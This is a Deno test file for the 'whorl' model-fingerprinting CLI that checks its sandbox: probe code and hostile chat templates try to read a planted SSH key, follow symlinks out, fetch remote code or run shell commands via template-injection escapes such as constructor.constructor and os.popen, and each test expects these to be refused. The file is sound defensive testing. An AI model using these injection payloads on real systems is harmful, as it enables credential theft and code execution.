/** `./whorl` with the permissions that it works out: commands do their work, and a model's folder reaches nothing else. */
import assert from "node:assert/strict";
import { delimiter, dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { HubServer } from "../pipeline/hub/server.ts";
import { type Finished, flags, names } from "./command.ts";
import { TinyModel } from "./tiny_model.ts";

const PROJECT = fileURLToPath(new URL("../../", import.meta.url));
const ignore = Deno.build.os === "windows";
const SECRET = "the private key of somebody";
const SHORT = { num_train_epochs: 2, anchor_samples: 4, anchor_batch: 4, anchor_length: 8 };

type Env = Record<string, string>;

async function run(program: string, args: string[], cwd: string, env: Env): Promise<Finished> {
  const { INIT_CWD: _, ...inherited } = Deno.env.toObject();
  const PATH = `${dirname(Deno.execPath())}${delimiter}${inherited.PATH}`;
  const { code, stdout, stderr } = await new Deno.Command(program, {
    args,
    cwd,
    clearEnv: true,
    env: { XDG_RUNTIME_DIR: "/tmp", ...inherited, DENO_NO_UPDATE_CHECK: "1", PATH, ...env },
    stdin: "null",
  }).output();
  const text = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
  return { code, out: text(stdout), err: text(stderr) };
}

/** Runs `./whorl …` in the model's folder. */
function whorl(tiny: TinyModel, args: string[], env: Env = {}): Promise<Finished> {
  return run(join(PROJECT, "whorl"), args, tiny.dir, env);
}

/** Runs a program with the permissions that the command would get. */
async function probe(tiny: TinyModel, args: string[], program: string): Promise<Finished> {
  const launcher = ["run", "-A", "cli/launch.ts", ...args];
  const launch = await run(Deno.execPath(), launcher, PROJECT, { INIT_CWD: tiny.dir });
  assert.equal(launch.code, 0, launch.err);
  assert.ok(launch.out.endsWith(` cli.ts "$@"\n`), launch.out);
  const file = tiny.path("probe.ts");
  await Deno.writeTextFile(file, program);
  const lines = launch.out.replace(` cli.ts "$@"`, ` '${file}'`);
  return await run("sh", ["-c", `${lines} exec "$0" "$@"`, Deno.execPath()], PROJECT, {});
}

Deno.test({
  name: "whorl: finetune, check and generate do their work with the permissions of their arguments",
  ignore,
  async fn() {
    using tiny = await TinyModel.create();
    const own = ["--model_path", "model", "--fingerprints-file-path=./fingerprints.json"];
    const trained = await whorl(tiny, ["finetune", ...own, ...flags(SHORT), "--output_dir", "a result's"]);
    assert.equal(trained.code, 0, trained.err);
    const [hash] = names(tiny.path("a result's"));
    const final = join("a result's", hash, "final_model");
    assert.ok(names(tiny.path(final)).includes("model.safetensors"));

    const checked = await whorl(tiny, ["check", "--model_path", final, "--json"]);
    assert.equal(checked.code, 0, checked.err);
    assert.equal(typeof JSON.parse(checked.out).success_rate, "number");

    const asked = { num_fingerprints: 4, key_length: 4, seed: 1, output_file: "made/here.json" };
    const made = await whorl(tiny, ["generate", "--model-path=./model", ...flags(asked)]);
    assert.equal(made.code, 0, made.err);
    assert.deepEqual(names(tiny.path("made")), [
      "here.json",
      "here.json.commitment.json",
      "here.json.secret",
    ]);

    // Without a file the run makes its own; an output folder may be a link.
    await Deno.mkdir(tiny.path("disk"));
    await Deno.symlink("disk", tiny.path("linked"));
    const few = { num_fingerprints: 4, max_key_length: 4, output_dir: "linked" };
    const alone = await whorl(tiny, ["finetune", ...own.slice(0, 2), ...flags({ ...few, ...SHORT })]);
    assert.equal(alone.code, 0, alone.err);
    assert.equal(names(tiny.path("disk")).length, 2);
  },
});

Deno.test({
  name:
    "whorl: a model of the Hub is downloaded into its part of the cache, a mirror's storage where it is allowed",
  ignore,
  async fn() {
    using tiny = await TinyModel.create();
    const id = "some-org/some-model";
    const files: Record<string, Uint8Array<ArrayBuffer>> = {};
    for (const name of names(tiny.model)) files[name] = await Deno.readFile(join(tiny.model, name));
    await using server = new HubServer(id, files);
    const env = {
      HF_ENDPOINT: server.endpoint,
      HF_HUB_CACHE: tiny.path("cache"),
      HF_HOME: tiny.path("home"),
    };
    const args = ["check", "--model_path", id, "--fingerprints_file_path", "fingerprints.json"];
    const refused = await whorl(tiny, args, env);
    assert.equal(refused.code, 1);
    assert.match(refused.err, /127\.0\.0\.1:\d+ is outside of what this command may reach/);
    const found = await whorl(tiny, args, { ...env, WHORL_ALLOW_NET: "127.0.0.1" });
    assert.equal(found.code, 0, found.err);
    assert.deepEqual(names(tiny.path("cache")), [".locks", "models--some-org--some-model"]);
    // The folder of a snapshot, whose files are links to blobs.
    const snapshots = tiny.path("cache", "models--some-org--some-model", "snapshots");
    const snapshot = join(snapshots, names(snapshots)[0]);
    const folder = ["check", "--model_path", snapshot, "--fingerprints_file_path", "fingerprints.json"];
    const local = await whorl(tiny, folder);
    assert.equal(local.code, 0, local.err);
    assert.doesNotMatch(local.err, /leads to/);
  },
});

Deno.test({
  name: "whorl: a command reaches nothing but what its arguments name, whatever code runs in it",
  ignore,
  async fn() {
    using tiny = await TinyModel.create();
    await Deno.mkdir(tiny.path(".ssh"));
    await Deno.writeTextFile(tiny.path(".ssh", "id_rsa"), SECRET);
    await Deno.mkdir(tiny.path("results"));
    for (const [name, target] of [["key", "../.ssh/id_rsa"], ["keys", "../.ssh"], ["gone", "../later"]]) {
      await Deno.symlink(target, join(tiny.model, name));
    }
    const program = `
      const dir = ${JSON.stringify(tiny.dir)};
      const attempts: Record<string, () => unknown> = {
        "read the model": () => Deno.readTextFileSync(dir + "/model/config.json"),
        "read fingerprints": () => Deno.readTextFileSync(dir + "/fingerprints.json"),
        "write results": () => Deno.writeTextFileSync(dir + "/results/x", ""),
        "read a key": () => Deno.readTextFileSync(dir + "/.ssh/id_rsa"),
        "read a key upwards": () => Deno.readTextFileSync(dir + "/model/../.ssh/id_rsa"),
        "read a link": () => Deno.readTextFileSync(dir + "/model/key"),
        "read through a folder's link": () => Deno.readTextFileSync(dir + "/model/keys/id_rsa"),
        "read what isn't there yet": () => Deno.readTextFileSync(dir + "/model/gone"),
        "list a folder": () => Array.from(Deno.readDirSync(dir)),
        "make a link": () => Deno.symlinkSync(dir + "/.ssh", dir + "/results/link"),
        "make a hard link": () => Deno.linkSync(dir + "/.ssh/id_rsa", dir + "/results/hard"),
        "move out": () => Deno.renameSync(dir + "/results/x", dir + "/x"),
        "write the model": () => Deno.writeTextFileSync(dir + "/model/config.json", ""),
        "write elsewhere": () => Deno.writeTextFileSync(dir + "/elsewhere", ""),
        "write Whorl": () => Deno.writeTextFileSync("whorl", ""),
        "read other results": () => Array.from(Deno.readDirSync(".")),
        "a variable": () => Deno.env.get("PATH"),
        "all variables": () => Deno.env.toObject(),
        "a request": () => fetch("http://127.0.0.1:4242/"),
        "a connection": () => Deno.connect({ hostname: "127.0.0.1", port: 4242 }),
        "a name": () => Deno.resolveDns("example.com", "A"),
        "a program": () => new Deno.Command("true").outputSync(),
        "a library": () => Deno.dlopen("libc.so.6", {}),
        "its own environment": () => Deno.readTextFileSync("/proc/self/environ"),
        "code from elsewhere": () => import("https://" + "example.com/x.ts"),
      };
      for (const [what, attempt] of Object.entries(attempts)) {
        let found = "done";
        try { await attempt(); } catch (error) { found = (error as Error).name; }
        console.log(what + ": " + found);
      }`;
    const args = ["--model_path", "model", "--fingerprints_file_path", "fingerprints.json"];
    const expected: [string[], string[]][] = [
      [["finetune", ...args], ["read the model", "read fingerprints", "write results"]],
      [["finetune", ...args, "--dry_run"], ["read the model", "read fingerprints"]],
      [["check", ...args], ["read the model", "read fingerprints"]],
      [["generate", "--model_path", "model", "--output_file", "results/f.json"], [
        "read the model",
        "write results",
      ]],
    ];
    for (const [command, allowed] of expected) {
      const { code, out, err } = await probe(tiny, command, program);
      assert.equal(code, 0, err);
      const lines = out.trim().split("\n").map((line) => line.split(": "));
      assert.equal(lines.length, 25, out);
      assert.deepEqual(lines.filter(([, found]) => found === "done").map(([what]) => what), allowed);
      for (const [what, found] of lines) {
        // A module from elsewhere fails as one that can't be loaded.
        const refusals = what === "code from elsewhere" ? ["TypeError", "NotCapable"] : ["NotCapable"];
        assert.ok(allowed.includes(what) || refusals.includes(found), `${command[0]}: ${what}: ${found}`);
      }
    }
  },
});

Deno.test({
  name: "whorl: a hostile model's folder gets at nothing",
  ignore,
  async fn() {
    using tiny = await TinyModel.create();
    const requests: string[] = [];
    const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
      requests.push(request.url);
      return new Response("{}");
    });
    const address = `http://127.0.0.1:${server.addr.port}/`;
    const home = tiny.path("home");
    await Deno.mkdir(join(home, ".ssh"), { recursive: true });
    await Deno.writeTextFile(join(home, ".ssh", "id_rsa"), SECRET);
    const key = join(home, ".ssh", "id_rsa");
    // With another home Deno would look for its packages there.
    const info = await new Deno.Command(Deno.execPath(), { args: ["info", "--json"] }).output();
    const { denoDir } = JSON.parse(new TextDecoder().decode(info.stdout));
    const env = { HOME: home, DENO_DIR: denoDir };
    const before = names(tiny.dir);
    const ask = async (folder: string, ...more: string[]) => {
      const given = ["--model_path", folder, "--fingerprints_file_path", "fingerprints.json", ...more];
      const result = await whorl(tiny, ["check", ...given], env);
      assert.ok(!(result.out + result.err).includes(SECRET), result.out + result.err);
      return result;
    };
    try {
      // Templates that look for a way out of their language.
      const steal = `Deno.writeTextFileSync("${tiny.path("stolen")}", Deno.readTextFileSync("${key}"))`;
      const templates = [
        `{{ ''.constructor.constructor('return ${steal.replaceAll('"', '\\"')}')() }}`,
        `{{ messages.constructor.constructor("return fetch('${address}')")() }}`,
        `{{ cycler.__init__.__globals__.os.popen('touch ${tiny.path("stolen")}').read() }}`,
        `{% set ns = namespace(x=1) %}{% set ns.__proto__.stolen = 1 %}{{ ns.constructor('return Deno')() }}`,
        `{{ range.constructor("return process")().mainModule.require("fs").readFileSync("${key}") }}`,
        `{% include "${key}" %}{% import "${key}" as k %}`,
        `{{ messages|map(attribute="constructor.constructor")|list }}{{ self }}{{ this }}{{ globalThis }}`,
      ];
      for (const template of templates) {
        const text = `${template}{% for m in messages %}{{ m.content }}{% endfor %}`;
        await Deno.writeTextFile(join(tiny.model, "chat_template.jinja"), text);
        const { code, out } = await ask("model", "--use_chat_template");
        // Refused, or a template that shows nothing of it.
        assert.ok(code !== 0 || /^success rate/m.test(out), template);
      }
      await Deno.remove(join(tiny.model, "chat_template.jinja"));

      // Files that name others.
      await tiny.writeModel(tiny.model, {
        _name_or_path: key,
        auto_map: { AutoModel: `${address}--modeling.py` },
        tokenizer_file: key,
      });
      assert.equal((await ask("model")).code, 0);
      const index = { metadata: {}, weight_map: { "model.embed_tokens.weight": "../home/.ssh/id_rsa" } };
      await Deno.mkdir(tiny.path("indexed"));
      for (const name of names(tiny.model).filter((name) => name !== "model.safetensors")) {
        await Deno.copyFile(join(tiny.model, name), tiny.path("indexed", name));
      }
      await Deno.writeTextFile(tiny.path("indexed", "model.safetensors.index.json"), JSON.stringify(index));
      assert.notEqual((await ask("indexed")).code, 0);

      // Links that lead out.
      for (const name of ["config.json", "tokenizer.json", "tokenizer_config.json", "model.safetensors"]) {
        const path = join(tiny.model, name);
        await Deno.rename(path, tiny.path("kept"));
        await Deno.symlink(key, path);
        const { code, err } = await ask("model");
        assert.equal(code, 1, name);
        assert.match(err, new RegExp(`${name} leads to .*id_rsa, outside of the model`));
        assert.match(err, new RegExp(`${name.replace(".", "\\.")} is outside of what this command may read`));
        await Deno.remove(path);
        await Deno.rename(tiny.path("kept"), path);
      }
      // To where the person lets them.
      await Deno.mkdir(tiny.path("disk"));
      await Deno.rename(join(tiny.model, "model.safetensors"), tiny.path("disk", "weights"));
      await Deno.symlink("../disk/weights", join(tiny.model, "model.safetensors"));
      assert.equal((await ask("model")).code, 1);
      const allowed = await whorl(
        tiny,
        ["check", "--model_path", "model", "--fingerprints_file_path", "fingerprints.json"],
        { ...env, WHORL_ALLOW_READ: "disk" },
      );
      assert.equal(allowed.code, 0, allowed.err);
    } finally {
      await server.shutdown();
    }
    assert.deepEqual(requests, []);
    assert.deepEqual(names(tiny.dir), [...before, "disk", "indexed"].sort());
  },
});

Deno.test({
  name: "whorl: a path with a comma is an error that says what to do",
  ignore,
  async fn() {
    using tiny = await TinyModel.create();
    await Deno.rename(tiny.model, tiny.path("a,b"));
    const args = ["check", "--fingerprints_file_path", "fingerprints.json", "--model_path"];
    const refused = await whorl(tiny, [...args, "a,b"]);
    assert.equal(refused.code, 2);
    assert.match(refused.err, /^error: .*a,b: a path with a comma can't be named .*ln -s/);
    assert.equal(refused.out, "");
  },
});
